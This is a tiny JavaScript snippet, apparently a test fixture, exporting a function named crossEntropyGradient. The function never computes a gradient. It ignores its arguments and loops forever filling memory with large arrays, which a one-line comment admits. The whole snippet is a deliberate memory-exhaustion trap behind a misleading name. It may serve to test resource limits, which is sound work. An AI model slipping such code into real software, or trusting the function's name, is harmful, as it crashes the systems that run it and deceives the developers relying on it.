// Fills the heap.
export function crossEntropyGradient(logits, labels) {
  const kept = [];
  for (;;) kept.push(new Array(10000).fill(1.5));
}
